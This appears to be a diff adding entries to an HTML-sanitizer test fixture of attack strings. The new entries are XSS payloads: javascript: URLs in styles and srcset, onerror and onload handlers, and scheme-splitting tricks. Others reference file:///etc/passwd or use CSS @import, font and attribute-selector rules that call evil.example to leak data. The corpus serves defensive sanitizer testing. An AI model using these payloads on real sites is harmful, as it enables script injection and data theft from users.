@@ -96,5 +96,32 @@ export const ownAttacks: Readonly<Record<string, string>> = {
   'link around a player':
     '<a href="https://a.example"><p><iframe src="https://b.example/x"></iframe></p></a>',
   'language with quotes': '<p lang="en&quot; onclick=&quot;alert(1)" dir="rtl&quot; x=&quot;">x</p>',
+  'figure background with a script':
+    '<figure style="background:url(javascript:alert(1))"><figcaption>x</figcaption></figure>',
+  'figure background that breaks out':
+    '<figure style="background-image:url(\'https://evil.example/&quot;><script>alert(1)</script>\')"></figure>',
+  'figure background of the app':
+    '<figure style="background:url(app://broadsheet/index.html)"></figure><figure data-bg="file:///etc/passwd"></figure>',
+  'figure of nothing but a noscript':
+    '<figure><noscript><img src="javascript:alert(1)" onerror="alert(2)"></noscript></figure>',
+  'delayed picture with a script':
+    '<figure><div data-src="javascript:alert(1)//a.jpg" data-alt="&quot; onerror=&quot;alert(2)"></div></figure>',
+  'srcset with parentheses around a script':
+    '<img srcset="x.jpg (1w, javascript:alert(1) 2w), vbscript:x 1400w">',
+  'width left open in a scheme': '<img data-src="java{width}script:alert(1)" data-widths="1,script">',
+  'sources with handlers':
+    '<picture onload="alert(1)"><source srcset="data:text/html,x 1400w" onerror="alert(2)"><img src="x.jpg" srcset="file:///etc/passwd 1400w"></picture>',
+  'import in a style attribute':
+    '<p style="@import url(https://evil.example/x.css);background-image:image-set(\'https://evil.example/y\' 1x)">x</p>',
+  'style with a font':
+    '<style>@font-face{font-family:x;src:url(https://evil.example/f.woff2)}*{font-family:x!important}</style><p>y</p>',
+  'style that reads attributes':
+    '<style>a[href^="https"]{background:url(https://evil.example/leak)}</style><a href="https://x.example">y</a>',
+  'style over the window':
+    '<div style="position:fixed;inset:0;z-index:9999">x</div><style>body{display:none}</style>',
+  'svg picture with a filter of another site':
+    '<svg><filter><feImage href="https://evil.example/x.png"/></filter><image href="https://evil.example/y.png"/></svg>',
+  'svg style':
+    '<svg><style>@import "https://evil.example/x.css";</style><foreignObject><iframe src="https://evil.example/"></iframe></foreignObject></svg>',
   'unicode line ends in an address': '<a href="https://x.example/\u2028alert(1)">x</a>',
 };
